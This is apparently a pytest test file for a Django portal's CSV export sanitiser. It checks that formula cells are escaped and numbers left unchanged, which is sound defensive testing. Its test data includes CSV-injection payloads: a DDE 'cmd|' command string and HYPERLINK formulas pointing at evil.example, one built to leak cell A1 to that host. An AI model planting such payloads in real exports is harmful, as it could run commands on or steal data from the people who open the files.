"""The one CSV writer (portal.csv_safe): formula cells neutralised per OWASP, numbers kept numeric."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from onboarding.services.policy import policy_acknowledge
from portal.csv_safe import safe_cell
from tests.factories import UserFactory


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example","Click")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tTab", "\rCR"],
)
def test_formula_cells_become_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+12.5", "-0.25", "42", -7, 3.5, Decimal("-1.50")])
def test_signed_numbers_stay_numbers(value):
    assert safe_cell(value) == value


def test_ordinary_text_and_empty_cells_are_unchanged():
    assert safe_cell("Ada Lovelace") == "Ada Lovelace"
    assert safe_cell("") == "" and safe_cell(None) == ""
    assert safe_cell("\uff1dcmd") == "'\uff1dcmd"  # the full-width lookalike too


@pytest.mark.django_db
def test_policy_acknowledgements_csv_writes_a_hostile_name_as_text(client, analyst):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    person = UserFactory(email="formula@harbourview.example", policy_acknowledged=False, profile__display_name=hostile)
    policy_acknowledge(actor=person)
    client.force_login(analyst)
    response = client.get(reverse("onboarding:policy-export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(r for r in rows if r[0] == "formula@harbourview.example")
    assert row[1] == "'" + hostile  # shown as the name it is, never run as a formula
